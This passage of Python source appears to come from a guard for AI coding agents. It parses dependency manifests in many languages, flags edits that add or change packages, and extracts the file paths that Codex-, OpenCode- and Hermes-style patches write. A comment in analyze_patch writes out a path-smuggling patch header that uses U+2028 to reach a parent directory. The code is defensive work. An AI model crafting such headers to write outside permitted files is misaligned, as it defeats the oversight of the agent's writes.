    r"|install\.packages\s*\(|\b(?:remotes|devtools|biocmanager|pak|renv)\s*::\s*\w*install"
    r"|\bpkg\s*\.\s*add\s*\(|\bmix\s*\.\s*install\s*\(|bundler/inline|\bpip\s*\.\s*main\s*\("
    r"|pip\._internal")


def _code_writes(low: str) -> bool:
    """Whether code looks like it writes a file (the same test inline code gets)."""
    return any(p in low for p in _CODE_WRITES) and any(
        w in low for w in ("'w", '"w', "'a", '"a', "write", "append", "copy", "rename",
                           "move", "replace"))


def _code_dep_intent(code: str, writes: bool = False) -> bool:
    """True when code installs a package or writes a dependency manifest."""
    low = code.lower()
    if any(t in low for t in _DEP_CODE_TRIGGERS) and \
            _an_rx("dep-code", _DEP_CODE_RX).search(low) is not None:
        return True
    if not (writes or _code_writes(low)):
        return False
    for quoted in _an_rx("dep-code-str", r"[\"'`]([^\"'`\n]{1,300})[\"'`]").findall(code):
        if manifest_kind(quoted.strip()) is not None:
            return True   # a manifest named by code that writes: its content is unknown
    return False


# ---- manifests read line by line --------------------------------------------
#
# Each reader returns {(scope, name): spec}.  A scope of "?" (or "?:...")
# marks a fragment whose enclosing section is not in the text: the same
# name under any scope on the other side is the same declaration.  "source"
# entries name where packages come from; their name holds the whole entry.

def _line_keys(text: str, rules: Tuple[Tuple[str, str], ...],
               sources: Tuple[str, ...] = ()) -> Dict[Tuple[str, str], str]:
    """Declarations found by per-line patterns: (scope, regex with groups name[, spec])."""
    keys: Dict[Tuple[str, str], str] = {}
    compiled = [(scope, _an_rx("dep-" + pattern, pattern)) for scope, pattern in rules]
    for raw in text.splitlines():
        line = raw.strip()
        if not line or line.startswith(("#", "//", "--", ";")):
            continue
        low = line.lower()
        if sources and low.startswith(sources):
            keys[("source", " ".join(low.split()))] = ""
            continue
        for scope, rx in compiled:
            for m in rx.finditer(line):
                spec = m.group(2) if rx.groups >= 2 and m.group(2) else ""
                keys[(scope, m.group(1).lower())] = _spec(spec)
    return keys


def _gemspec_keys(text: str) -> Dict[Tuple[str, str], str]:
    return _line_keys(text, (
        ("gem", r"add_(?:runtime_|development_)?dependency\s*\(?\s*['\"]([^'\"]+)['\"](.*)"),))


def _podfile_keys(text: str) -> Dict[Tuple[str, str], str]:
    return _line_keys(text, (("pod", r"^\s*pod\s*\(?\s*['\"]([^'\"]+)['\"](.*)"),),
                      ("source", "plugin"))


def _brewfile_keys(text: str) -> Dict[Tuple[str, str], str]:
    return _line_keys(text, (
        ("brew", r"^\s*(?:brew|cask|mas|vscode|whalebrew|go|cargo|npm|uv)\s+['\"]([^'\"]+)['\"]"
                 r"(.*)"),), ("tap",))


def _cartfile_keys(text: str) -> Dict[Tuple[str, str], str]:
    return _line_keys(text, (("carthage", r"^\s*(?:github|git|binary)\s+\"([^\"]+)\"(.*)"),))


def _paket_keys(text: str) -> Dict[Tuple[str, str], str]:
    return _line_keys(text, (
        ("paket", r"^\s*(?:nuget|github|git|http|gist|clitool)\s+(\S+)(.*)"),), ("source",))


_GRADLE_CONFIG = (r"\b(?:implementation|api|compile|compileOnly|runtimeOnly|runtime|classpath"
                  r"|testImplementation|testRuntimeOnly|testCompileOnly|testCompile"
                  r"|annotationProcessor|kapt|ksp|androidTestImplementation|\w+Implementation"
                  r"|\w+Api|\w+CompileOnly|\w+RuntimeOnly|developmentOnly|coreLibraryDesugaring"
                  r"|lintChecks|detektPlugins|compileOnlyApi|shadow|provided)\s*\(?\s*"
                  r"(?:(?:platform|enforcedPlatform|testFixtures|kotlin)\s*\(\s*)?"
                  r"(?:['\"]([^'\"$\n]+)['\"]|(libs\.[\w.]+)|group\s*[:=]\s*['\"]([^'\"]+)['\"]"
                  r"\s*,\s*name\s*[:=]\s*['\"]([^'\"]+)['\"](?:\s*,\s*version\s*[:=]\s*"
                  r"['\"]([^'\"]+)['\"])?)")


def _gradle_keys(text: str) -> Dict[Tuple[str, str], str]:
    """Gradle's configurations (`implementation "g:a:v"`, `api(libs.x)`, the map
    form), plugins and repositories, Groovy or Kotlin DSL."""
    keys = _line_keys(text, (
        ("plugin", r"\bid\s*\(?\s*['\"]([\w.\-]+)['\"]\s*\)?(?:\s*version\s*\(?\s*['\"]"
                   r"([^'\"]+)['\"])?"),
        ("plugin", r"\balias\s*\(\s*([\w.\-]+)\s*\)"),
        ("repo", r"\b(mavenCentral|google|jcenter|mavenLocal|gradlePluginPortal)\s*\(\s*\)"),
        ("repo", r"\burl\s*(?:=|\()?\s*(?:uri\s*\(\s*)?['\"]([^'\"]+)['\"]"),
    ))
    for m in _an_rx("gradle-dep", _GRADLE_CONFIG).finditer(text[:_MAX_MANIFEST]):
        coordinate, catalog, group, name, version = m.groups()
        if coordinate:
            parts = coordinate.split(":")
            if len(parts) >= 3:
                keys[("gradle", ":".join(parts[:2]).lower())] = _spec(":".join(parts[2:]))
            else:
                keys[("gradle", coordinate.lower())] = ""
        elif catalog:
            keys[("gradle", catalog.lower())] = ""
        elif group and name:
            keys[("gradle", (group + ":" + name).lower())] = _spec(version or "")
    return keys


def _sbt_keys(text: str) -> Dict[Tuple[str, str], str]:
    return _line_keys(text, (
        ("sbt", r"(\"[\w.\-]+\"\s*%{1,3}\s*\"[\w.\-]+\")\s*%\s*(\"[^\"]*\"|\w+)"),),
        ("resolvers", "externalresolvers"))


def _maven_keys(text: str) -> Dict[Tuple[str, str], str]:
    """<dependency>, <plugin>, <parent>, <extension> coordinates; version properties;
    repositories.  Tag by tag, so that a fragment reads too."""
    keys: Dict[Tuple[str, str], str] = {}
    group = artifact = ""
    scope = "?"
    for m in _an_rx("maven-tag", r"<\s*(/?)\s*([\w.\-]+)[^>]*>([^<]*)").finditer(text[:_MAX_MANIFEST]):
        closing, tag, body = m.group(1), m.group(2).lower(), m.group(3).strip()
        if tag in ("dependency", "plugin", "parent", "extension"):
            if closing and artifact:
                keys.setdefault((scope, group + ":" + artifact), "")
            scope, group, artifact = (tag if not closing else "?"), "", ""
        elif closing:
            continue
        elif tag == "groupid":
            group = body
        elif tag == "artifactid":
            artifact = body
            keys[(scope, group + ":" + artifact)] = ""
        elif tag == "version" and artifact:
            keys[(scope, group + ":" + artifact)] = _spec(body)
        elif tag.endswith(("version", ".version")) and tag not in ("modelversion",):
            keys[("property", tag)] = _spec(body)
        elif tag == "url":
            keys[("source", body)] = ""
    return keys


def _conan_keys(text: str) -> Dict[Tuple[str, str], str]:
    """`zlib/1.2.13` references in [requires] sections or quoted in conanfile.py."""
    keys: Dict[Tuple[str, str], str] = {}
    section = ""
    ref = _an_rx("conan-ref", r"(?<![\w/.\-])([a-z0-9_][\w.+\-]*)/(\[[^\]\n]*\]|[\w.+\-]+)"
                              r"(?:@[\w.+/\-]+)?(?:#\w+)?")
    for raw in text.splitlines():
        line = raw.strip()
        if line.startswith("[") and line.endswith("]"):
            section = line.lower()
            continue
        if not line or line.startswith("#") or section in ("[options]", "[generators]",
                                                           "[layout]", "[imports]", "[conf]"):
            continue
        quoted = "'" in line or '"' in line
        for m in ref.finditer(line):
            if quoted and line[max(0, m.start() - 1):m.start()] not in ("'", '"'):
                continue
            keys[("conan", m.group(1).lower())] = _spec(m.group(0))
    return keys


_R_DEP_FIELDS = ("depends", "imports", "suggests", "linkingto", "enhances", "remotes")


def _rdesc_keys(text: str) -> Dict[Tuple[str, str], str]:
    """R's DESCRIPTION: `Imports: pkg (>= 1.0), other` fields and their continuations."""
    keys: Dict[Tuple[str, str], str] = {}
    field = "?"
    for raw in text.splitlines():
        if not raw.strip():
            continue
        value = raw
        if raw[:1] not in (" ", "\t") and ":" in raw:
            name, _, value = raw.partition(":")
            field = name.strip().lower()
        if field not in _R_DEP_FIELDS and field != "?":
            continue
        for item in value.split(","):
            item = item.strip()
            m = _an_rx("r-pkg", r"([A-Za-z][\w.]*(?:/[\w.\-@#]+)?)\s*(\([^)]*\))?\s*$").match(item)
            if m and (field != "?" or m.group(2)):
                keys[(field, m.group(1).lower())] = _spec(m.group(2) or "")
    return keys


def _cabal_keys(text: str) -> Dict[Tuple[str, str], str]:
    """`build-depends:` lists (with continuation lines), extra-packages, constraints and
    source-repository-package stanzas of .cabal and cabal.project files."""
    keys: Dict[Tuple[str, str], str] = {}
    indent: Optional[int] = None
    scope = "?"
    item = _an_rx("cabal-item", r"([A-Za-z][\w\-]*)\s*(.*)$")
    for raw in text.splitlines():
        line = raw.split("--", 1)[0].rstrip()
        if not line.strip():
            continue
        lead = len(line) - len(line.lstrip())
        low = line.strip().lower()
        if low.startswith("source-repository-package"):
            keys[("source", low)] = ""
            indent, scope = lead, "source"
            continue
        field, colon, value = low.partition(":")
        if colon and _an_rx("cabal-field", r"[a-z][\w\-]*\Z").match(field.strip()):
            if field.strip() in ("build-depends", "extra-packages", "constraints",
                                 "build-tool-depends"):
                indent, scope = lead, field.strip()
            elif scope == "source" and indent is not None and lead > indent:
                keys[("source", " ".join(low.split()))] = ""
                continue
            else:
                indent, scope = None, "?"
                continue
        elif indent is not None and lead <= indent:
            indent, scope = None, "?"
            continue
        else:
            value = low   # a continuation line, or a fragment (only bounded items count)
        for part in value.split(","):
            m = item.match(part.strip())
            if m and (indent is not None or m.group(2)):
                keys[(scope, m.group(1))] = _spec(m.group(2))
    return keys


_YAML_DEP_KEYS = frozenset((
    "dependencies", "dev_dependencies", "dependency_overrides", "development_dependencies",
    "extra-deps", "build-tools", "channels", "collections", "roles", "resolver", "snapshot"))
_YAML_META = frozenset(("sdk", "flutter", "version", "name", "description", "homepage",
                        "publish_to", "environment", "repository", "author", "authors"))


def _yaml_keys(text: str) -> Dict[Tuple[str, str], str]:
    """Dependency sections of YAML manifests (pubspec, shard, conda environment,
    hpack package.yaml, stack.yaml, Helm Chart.yaml, Ansible requirements):
    each child or list item under a dependency key, with everything nested
    under it as its spec."""
    keys: Dict[Tuple[str, str], str] = {}
    section: Optional[Tuple[int, str]] = None     # (indent, key) of the open dep section
    child: Optional[Tuple[int, Tuple[str, str]]] = None
    for raw in text.splitlines():
        content = raw.split(" #", 1)[0].rstrip()
        if not content.strip() or content.strip().startswith("#"):
            continue
        lead = len(content) - len(content.lstrip(" -"))
        body = content.strip()
        item = body.startswith("- ") or body == "-"
        body = body[1:].strip() if item else body
        key, colon, value = body.partition(":")
        key = key.strip().strip("\"'").lower()
        if section is not None and lead <= section[0] and not (item and lead == section[0]):
            section = child = None
        if section is None:
            if colon and key in _YAML_DEP_KEYS and lead < 40:
                if key in ("resolver", "snapshot"):
                    keys[("source", key)] = _spec(value)
                    continue
                section = (lead, key)
                if value.strip().startswith("["):   # dependencies: [a, b]
                    for name in value.strip("[] ").split(","):
                        if name.strip():
                            keys[(key, _yaml_name(name))] = _spec(name)
                    section = None
                continue
            if (item or (colon and key not in _YAML_META and _an_rx(
                    "yaml-ver", r"\s*['\"]?(?:[\^~<>=]|\d|any\b)").match(value))):
                # A fragment: a list item or a `name: ^1.0` line with no section above.
                name = _yaml_name(body if item and not colon else key)
                if name:
                    keys[("?", name)] = _spec(value if colon else body)
            continue
        scope = "source" if section[1] == "channels" else section[1]
        if child is not None and lead > child[0] and not (item and lead == child[0]):
            keys[child[1]] = keys.get(child[1], "") + _spec(body)
            continue
        if item and colon and key == "name":
            entry = (scope, _yaml_name(value))
        elif item and colon and key in ("src", "source", "git", "url"):
            entry = (scope, _yaml_name(value))
        else:
            entry = (scope, _yaml_name(body if item and not colon else key))
        keys[entry] = _spec(value if colon and not item else (body if item else value))
        child = (lead, entry)
    return keys


def _yaml_name(text: str) -> str:
    """The package in a YAML dependency entry: `numpy=1.2`, `text >= 1`, `acme-1.2.3`."""
    text = text.strip().strip("\"'").lower()
    for stop in ("=", "<", ">", "!", "~", " ", "[", "@"):
        text = text.split(stop, 1)[0]
    return text


def _clojure_keys(text: str, lein: bool) -> Dict[Tuple[str, str], str]:
    """deps.edn `lib {:mvn/version "1"}` / `{:git/url ...}`; project.clj `[lib "1"]`."""
    keys: Dict[Tuple[str, str], str] = {}
    if lein:
        pattern = r"\[\s*([a-z][\w.\-]*(?:/[\w.\-]+)?)\s+\"([^\"]*)\""
    else:
        pattern = (r"([a-z][\w.\-]*(?:/[\w.\-]+)?)\s*\{([^{}]*:(?:mvn/version|git/\w+|local/root"
                   r"|sha|tag|deps/root)[^{}]*)\}")
    for m in _an_rx("clj-" + str(lein), pattern, 2).finditer(text[:_MAX_MANIFEST]):
        keys[("clj", m.group(1).lower())] = _spec(m.group(2))
    for line in text.splitlines():
        if any(w in line for w in (":mvn/repos", ":repositories", ":url ")):
            keys[("source", " ".join(line.split()))] = ""
    return keys


def _mix_keys(text: str) -> Dict[Tuple[str, str], str]:
    return _line_keys(text, (
        ("mix", r"\{\s*:([a-z_]\w*)\s*,\s*((?:\"[^\"]*\"|(?:git|github|path|hex|in_umbrella"
                r"|sparse|override|only|runtime|optional|organization|repo|tag|branch|ref)\s*:)"
                r"[^{}]*)\}"),))


def _rebar_keys(text: str) -> Dict[Tuple[str, str], str]:
    return _line_keys(text, (
        ("rebar", r"\{\s*([a-z]\w*)\s*,\s*(\"[^\"]*\"|\{\s*(?:git|hg|pkg|git_subdir)\b[^}]*\}?)"),))


def _opam_keys(text: str) -> Dict[Tuple[str, str], str]:
    """opam `depends: [ "dune" {>= "3.0"} ]`, dune-project `(depends (lwt (>= 5)))`,
    pin-depends (sources)."""
    keys: Dict[Tuple[str, str], str] = {}
    low = text.lower()[:_MAX_MANIFEST]
    regions = [m.group(1) for m in _an_rx(
        "opam-region", r"\b(?:depends|depopts|build-depends|conflicts)\s*:\s*\[([^\]]*)\]?"
    ).finditer(low)]
    if not regions and "depends" not in low:
        # A fragment of a depends list: lines that start with a package string.
        regions = [line for line in low.splitlines() if line.strip().startswith(('"', "["))]
    for region in regions:
        for m in _an_rx("opam-dep", r"\"([a-z][\w\-+.]*)\"\s*(\{[^}]*\})?").finditer(region):
            keys[("opam", m.group(1))] = _spec(m.group(2) or "")
    for m in _an_rx("dune-dep", r"\(\s*([a-z][\w\-+]*)\s*(\((?:>=|<=|=|<|>|and|or|:with-test"
                                r"|:build|:dev)[^()]*(?:\([^()]*\)[^()]*)*\))").finditer(low):
        keys[("opam", m.group(1))] = _spec(m.group(2))
    for m in _an_rx("dune-depends", r"\(depends\b([^()]*)").finditer(low):
        for name in m.group(1).split():
            keys.setdefault(("opam", name), "")
    for line in low.splitlines():
        if "pin-depends" in line or "git+" in line:
            keys[("source", " ".join(line.split()))] = ""
    # Metadata fields and build commands are quoted strings too: never count them.
    return {k: v for k, v in keys.items() if k[1] not in _OPAM_WORDS}


_OPAM_WORDS = frozenset((
    "name", "version", "synopsis", "description", "maintainer", "authors", "license",
    "homepage", "bug-reports", "dev-repo", "doc", "build", "install", "opam-version", "lang",
    "source", "generate_opam_files", "package", "depends", "-p", "@install", "@runtest",
    "@doc", "-j", "jobs", "subst", "runtest", "with-test", "with-doc"))


def _dune_keys(text: str) -> Dict[Tuple[str, str], str]:
    keys: Dict[Tuple[str, str], str] = {}
    for m in _an_rx("dune-libs", r"\(\s*libraries\b([^()]*)").finditer(text[:_MAX_MANIFEST]):
        for name in m.group(1).split():
            keys[("dune", name.lower())] = ""
    return keys


def _swiftpm_keys(text: str) -> Dict[Tuple[str, str], str]:
    return _line_keys(text, (
        ("swiftpm", r"\.package\s*\(\s*(?:name\s*:\s*\"[^\"]*\"\s*,\s*)?(?:url|path|id)\s*:\s*"
                    r"\"([^\"]+)\"([^\n]*)"),))


def _nimble_keys(text: str) -> Dict[Tuple[str, str], str]:
    keys: Dict[Tuple[str, str], str] = {}
    for raw in text.splitlines():
        line = raw.split("#", 1)[0].strip()
        if not line.lower().startswith(("requires", "\"", "'")):
            continue
        for item in _an_rx("nim-req", r"\"([^\"]+)\"|'([^']+)'").findall(line):
            req = (item[0] or item[1]).strip()
            name = req.split(" ", 1)[0].split(">", 1)[0].split("<", 1)[0].split("=", 1)[0]
            if name:
                keys[("nimble", name.lower())] = _spec(req)
    return keys


def _zon_keys(text: str) -> Dict[Tuple[str, str], str]:
    """build.zig.zon: every dependency's .url, .path and .hash lines."""
    keys: Dict[Tuple[str, str], str] = {}
    for raw in text.splitlines():
        line = raw.split("//", 1)[0].strip()
        m = _an_rx("zon", r"\.(url|path|hash|lazy)\s*=\s*(.+?),?$").match(line)
        if m:
            keys[("source", _spec(line))] = ""
        m = _an_rx("zon-dep", r"\.(@\"[^\"]+\"|\w+)\s*=\s*\.\{\s*$").match(line)
        if m and m.group(1) not in ("dependencies", "paths"):
            keys[("zig", m.group(1).lower())] = ""
    return keys


def _nix_keys(text: str) -> Dict[Tuple[str, str], str]:
    """flake inputs (`x.url = "github:..."`) and package lists (buildInputs, packages)."""
    keys: Dict[Tuple[str, str], str] = {}
    low = text[:_MAX_MANIFEST]
    for m in _an_rx("nix-input", r"([\w\-]+)\s*\.\s*url\s*=\s*\"([^\"]*)\"").finditer(low):
        keys[("input", m.group(1))] = _spec(m.group(2))
    for m in _an_rx("nix-url", r"\burl\s*=\s*\"([^\"]*)\"").finditer(low):
        keys[("source", m.group(1))] = ""
    lists = _an_rx("nix-list", r"(?:buildInputs|nativeBuildInputs|propagatedBuildInputs|packages"
                               r"|checkInputs|nativeCheckInputs|buildPackages)\s*=\s*"
                               r"(?:(?:with\s+[\w.]+\s*;|\(?\s*[\w.]+\s*:)\s*)*\[([^\]]*)\]?")
    bodies = [m.group(1) for m in lists.finditer(low)]
    if not bodies and "=" not in low:
        bodies = [low]   # a fragment of a list: `  jq` lines
    for body in bodies:
        for word in _an_rx("nix-word", r"[A-Za-z_][\w.\-']*").findall(body.split("#", 1)[0]):
            if word not in ("with", "pkgs", "inherit"):
                keys[("nix", word)] = ""
    return keys


def _setuppy_keys(text: str) -> Dict[Tuple[str, str], str]:
    """Requirement strings of setup(install_requires=..., extras_require=...,
    setup_requires=..., tests_require=...) and [options] of setup.cfg."""
    keys: Dict[Tuple[str, str], str] = {}
    strings = _an_rx("py-str", r"\"([^\"\n]*)\"|'([^'\n]*)'")
    low = text[:_MAX_MANIFEST]
    # The list after each keyword, up to its first closing bracket (a dict of
    # lists for extras_require): one regex pass, linear on any input.
    regions = [(m.group(1) or m.group(3), m.group(2) if m.group(1) else m.group(4))
               for m in _an_rx("setup-kw", r"\b(install_requires|setup_requires|tests_require"
                                           r"|dependency_links)\s*[=:]\s*[\[(]([^\])]*)"
                                           r"|\b(extras_require)\s*[=:]\s*\{([^}]*)").finditer(low)]
    with_spec = []
    bare = []
    for kw, region in regions or [("?", low)]:
        for quoted in strings.findall(region):
            item = (quoted[0] or quoted[1]).strip()
            name = _req_name(item)
            if not name or not any(ch.isalpha() for ch in name) or "/" in item:
                if "://" in item:
                    keys[("source", item)] = ""
                continue
            rest = item[len(name):].lstrip() if item.lower().startswith(name) else "?"
            if rest and not rest.startswith(("==", ">=", "<=", "~=", "!=", "<", ">", "@", ";",
                                             "[", "(")) and _pep503(item) != name:
                continue   # `x=pkg.mod:main` is an entry point, not a requirement
            (with_spec if item != name and any(c in item for c in "<>=~!@[;") else bare).append(
                (kw, name, item))
    for kw, name, item in with_spec + (bare if regions or with_spec else []):
        keys[(kw, name)] = _spec(item)
    return keys


def _setupcfg_keys(text: str) -> Dict[Tuple[str, str], str]:
    keys: Dict[Tuple[str, str], str] = {}
    section, field = "", "?"
    for raw in text.splitlines():
        line = raw.split(" #", 1)[0].rstrip()
        if not line.strip() or line.strip().startswith(("#", ";")):
            continue
        if line.startswith("["):
            section, field = line.strip("[] ").lower(), ""
            continue
        if line[:1] not in (" ", "\t") and ("=" in line or ":" in line):
            name, _, value = line.partition("=") if "=" in line else line.partition(":")
            field = name.strip().lower()
            if section != "options.extras_require" and field not in (
                    "install_requires", "setup_requires", "tests_require"):
                field = ""
                continue
            line = value
        elif not field:
            continue
        item = line.strip()
        name = _req_name(item.split(";", 1)[0])
        if name and any(ch.isalpha() for ch in name) and (field != "?" or item != name):
            keys[(field, name)] = _spec(item)
    return keys


def _generic_keys(text: str) -> Dict[Tuple[str, str], str]:
    """Files that are nothing but declarations (vcpkg.json, registry settings):
    every meaningful line counts."""
    keys: Dict[Tuple[str, str], str] = {}
    for raw in text.splitlines():
        line = " ".join(raw.split())
        if line and not line.startswith(("#", "//", ";")) and line not in ("{", "}", "[", "]",
                                                                          "},", "],"):
            keys[("line", line.rstrip(","))] = ""
    return keys


_MANIFEST_READERS: Dict[str, Callable[[str], Dict[Tuple[str, str], str]]] = {
    "npm": lambda t: _npm_keys(t), "composer": lambda t: _npm_keys(t),
    "requirements": lambda t: _req_keys(t), "gomod": lambda t: _gomod_keys(t),
    "gemfile": lambda t: _gemfile_keys(t), "csproj": lambda t: _csproj_keys(t),
    "gemspec": lambda t: _gemspec_keys(t), "podfile": lambda t: _podfile_keys(t),
    "brewfile": lambda t: _brewfile_keys(t), "cartfile": lambda t: _cartfile_keys(t),
    "paket": lambda t: _paket_keys(t), "gradle": lambda t: _gradle_keys(t),
    "sbt": lambda t: _sbt_keys(t), "maven": lambda t: _maven_keys(t),
    "conan": lambda t: _conan_keys(t), "rdesc": lambda t: _rdesc_keys(t),
    "cabal": lambda t: _cabal_keys(t), "yaml": lambda t: _yaml_keys(t),
    "edn": lambda t: _clojure_keys(t, False), "lein": lambda t: _clojure_keys(t, True),
    "mix": lambda t: _mix_keys(t), "rebar": lambda t: _rebar_keys(t),
    "opam": lambda t: _opam_keys(t), "dune": lambda t: _dune_keys(t),
    "swiftpm": lambda t: _swiftpm_keys(t), "nimble": lambda t: _nimble_keys(t),
    "zon": lambda t: _zon_keys(t), "nix": lambda t: _nix_keys(t),
    "setuppy": lambda t: _setuppy_keys(t), "setupcfg": lambda t: _setupcfg_keys(t),
    "generic": lambda t: _generic_keys(t), "registry": lambda t: _generic_keys(t),
}


def _manifest_keys(kind: str, text: str) -> Dict[Tuple[str, str], str]:
    if kind in ("pyproject", "cargo", "pipfile", "pixi", "julia", "gradlecat"):
        return _toml_keys(text, kind)
    reader = _MANIFEST_READERS.get(kind)
    return reader(text) if reader is not None else {}


_MAX_MANIFEST = 4 << 20


def _wild(scope: str) -> bool:
    return scope == "?" or scope.startswith("?:")


def _lock_change(old_text: Optional[str], new_text: str) -> bool:
    """A lockfile changes what is installed when it gains a line it did not have."""
    def entries(text: str) -> set:
        return {" ".join(line.split()).rstrip(",") for line in text.splitlines()} - {
            "", "{", "}", "[", "]"}
    return bool(entries(new_text) - entries(old_text or ""))


def dependency_intent_in_change(path: Optional[str], old_text: Optional[str],
                                new_text: Optional[str]) -> bool:
    """True when a manifest change adds a dependency or changes one.

    A Write passes old_text None (or the file's current content when the
    caller has it); an Edit passes the replaced fragment and its
    replacement.  A new name, a changed version or source of a kept name
    (`requests==2.31.0` -> `2.32.0`: new code all the same), a change of
    where packages come from (registry, index, git/path source, overrides,
    replace) and a lockfile that gains an entry all count; removing a
    dependency and reformatting do not.
    """
    kind = manifest_kind(path)
    if kind is None or not isinstance(new_text, str):
        return False
    if len(new_text) > _MAX_MANIFEST or (old_text and len(old_text) > _MAX_MANIFEST):
        return True   # too large to compare: assume the worst
    if kind == "lock":
        return _lock_change(old_text, new_text)

    new = _manifest_keys(kind, new_text)
    old = _manifest_keys(kind, old_text) if isinstance(old_text, str) else {}
    by_name: Dict[str, List[Tuple[str, str]]] = {}
    for (scope, name), value in old.items():
        by_name.setdefault(name, []).append((scope, value))
    for key, value in new.items():
        scope, name = key
        if scope == "section":
            continue
        if key in old:
            if old[key] != value and (value or scope == "source"):
                return True   # a kept dependency with another version or source
            continue
        # A fragment without a header has scope "?": the same name on the
        # other side, under any scope, is the same declaration.
        same = [v for s, v in by_name.get(name, ()) if _wild(s) or _wild(scope)]
        if not same:
            return True
        if value and value not in same and any(same):
            return True
    # A header turned into a dependency table (Cargo/pyproject).
    if old_text is not None:
        new_sections = {k[1] for k in new if k[0] == "section"}
        old_sections = {k[1] for k in old if k[0] == "section"}
        if new_sections - old_sections and not old_text.strip() == "" and \
                all(line.strip().startswith(("[", "#")) for line in new_text.splitlines()
                    if line.strip()):
            return True
        if new_sections - old_sections and old_text.strip() == "":
            return True
    return False


# ---- patches ----------------------------------------------------------------

class PatchSummary(Record):
    """Paths and added text of a Codex-style `*** Begin Patch` text."""

    __slots__ = FIELDS = ('paths', 'added_text', 'hash_intent', 'dependency_intent')

    paths: List[str]
    added_text: str
    hash_intent: bool
    dependency_intent: bool


class _PatchFile:
    __slots__ = ("path", "old_path", "added", "removed", "old", "new", "kind")

    def __init__(self, path: str, kind: str) -> None:
        self.path = path
        self.old_path = path
        self.kind = kind           # add | update | delete
        self.added: List[str] = []
        self.removed: List[str] = []
        self.old: List[str] = []
        self.new: List[str] = []


def _patch_header(line: str, v4a: bool) -> Optional[Tuple[str, str]]:
    # Codex trims a hunk line (Rust's trim: every Unicode blank, NBSP
    # included) before it looks for a header, so an indented `*** Add File:`
    # still names a file; OpenCode needs no blank after the colon
    # (`*** Add File:x`).  Judge every such spelling a header: more paths can
    # only make the files= check stricter.
    line = line.strip()
    if not line.startswith("***"):
        return None
    if not v4a:
        for verb, kind in (("*** Add File:", "add"), ("*** Update File:", "update"),
                           ("*** Delete File:", "delete"), ("*** Move to:", "move")):
            if line.startswith(verb):
                return kind, line[len(verb):].strip()
        return ("other", "")
    m = _an_rx("v4a", r"\*\*\*\s*(Add|Update|Delete|Move)\s+(File|to)\s*:\s*(.*)$").match(line)
    if not m:
        return ("other", "")
    verb = m.group(1).lower()
    if verb == "move":
        return "move", m.group(3).strip()
    return verb, m.group(3).strip()


def analyze_patch(patch_text: Any, *, v4a: bool = False) -> PatchSummary:
    """Paths (Add/Update/Delete File, Move to), added lines and intents of a patch.

    v4a=True accepts the Hermes V4A spelling (`***Add File:`, `*** Move
    File: A -> B`).  Unified diffs (`--- a/x` / `+++ b/x`) are understood
    too.  Hash intent counts only lines a file gains (added minus removed,
    whitespace-normalised), filtered by file type; dependency intent
    compares each manifest's old and new sides.
    """
    if not isinstance(patch_text, str) or not patch_text:
        return PatchSummary([], "", False, False)
    # Codex (Rust `lines()`) and OpenCode (`split("\n")`) break lines at
    # "\n" only, so a header path may hold U+2028, \v or a lone \r that
    # splitlines() would cut: `*** Add File: src/a<U+2028>/../../x` writes
    # ../x.  Read the text both ways and keep every path either reading names.
    lines = patch_text.splitlines()
    summary = _analyze_patch_lines(lines, patch_text, v4a)
    by_newline = [line[:-1] if line.endswith("\r") else line
                  for line in patch_text.split("\n")]
    if by_newline[-1:] == [""]:
        by_newline.pop()
    if by_newline == lines:
        return summary
    other = _analyze_patch_lines(by_newline, patch_text, v4a)
    paths = summary.paths + [p for p in other.paths if p not in summary.paths]
    return PatchSummary(paths, summary.added_text, summary.hash_intent or other.hash_intent,
                        summary.dependency_intent or other.dependency_intent)


def _analyze_patch_lines(lines: List[str], patch_text: str, v4a: bool) -> PatchSummary:
    files: List[_PatchFile] = []
    cur: Optional[_PatchFile] = None
    unified = "*** Begin Patch" not in patch_text and any(
        ln.startswith("+++ ") for ln in lines[:4000])
    for k, line in enumerate(lines):
        if unified:
            if line.startswith("--- ") and k + 1 < len(lines) and lines[k + 1].startswith("+++ "):
                continue
            if line.startswith("+++ "):
                target = line[4:].split("\t", 1)[0].strip()
                old = lines[k - 1][4:].split("\t", 1)[0].strip() if k else target
                if target.startswith("b/"):
                    target = target[2:]
                if old.startswith("a/"):
                    old = old[2:]
                if target == "/dev/null":
                    cur = _PatchFile(old, "delete")
                else:
                    cur = _PatchFile(target, "add" if old == "/dev/null" else "update")
                    if old not in ("/dev/null", target):
                        cur.old_path = old
                files.append(cur)
                continue
            if line.startswith("diff --git") or line.startswith("index "):
                continue
        else:
            head = _patch_header(line, v4a)
            if head is not None:
                kind, arg = head
                if kind in ("add", "update", "delete"):
                    if v4a and kind == "update" and " -> " in arg:
                        arg = arg.split(" -> ", 1)[0].strip()
                    cur = _PatchFile(arg, kind)
                    files.append(cur)
                elif kind == "move" and cur is None:
                    # A stray `*** Move to:` still names a file the host may write.
                    cur = _PatchFile(arg, "update")
                    files.append(cur)
                elif kind == "move":
                    if v4a and " -> " in arg:
                        src, _, dst = arg.partition(" -> ")
                        cur = _PatchFile(src.strip(), "update")
                        files.append(cur)
                        arg = dst
                    cur.path = arg.strip()
                elif kind == "other":
                    if line.startswith("*** End of File"):
                        continue
                    cur = None if not line.startswith("*** Begin Patch") else cur
                continue
        if cur is None:
            continue
        if line.startswith("@@"):
            ctx_text = line[2:].strip()
            if unified:
                ctx_text = ctx_text.split("@@", 1)[1].strip() if "@@" in ctx_text else ""
            if ctx_text:
                cur.old.append(ctx_text)
                cur.new.append(ctx_text)
            continue
        if cur.kind == "add":
            body = line[1:] if line.startswith("+") else line
            cur.added.append(body)
            cur.new.append(body)
        elif line.startswith("+"):
            cur.added.append(line[1:])
            cur.new.append(line[1:])
        elif line.startswith("-"):
            cur.removed.append(line[1:])
            cur.old.append(line[1:])
        elif line.startswith(" ") or line == "":
            cur.old.append(line[1:])
            cur.new.append(line[1:])
    paths: List[str] = []
    added_all: List[str] = []
    hash_hit = dep_hit = False
    for f in files:
        for p in (f.old_path, f.path):
            if p and p not in paths:
                paths.append(p)
        # Lines the file gains: added minus removed, whitespace-normalised.
        pool: Dict[str, int] = {}
        for r in f.removed:
            key = " ".join(r.split())
            pool[key] = pool.get(key, 0) + 1
        gained = []
        for a in f.added:
            key = " ".join(a.split())
            if pool.get(key):
                pool[key] -= 1
            else:
                gained.append(a)
        added_all.extend(f.added)
        if gained and not hash_hit:
            hash_hit = hash_intent_in_text("\n".join(gained), f.path,
                                           removed_text="\n".join(f.removed))
        if not dep_hit and f.kind != "delete" and manifest_kind(f.path):
            if f.kind == "add":
                dep_hit = dependency_intent_in_change(f.path, None, "\n".join(f.new))
            else:
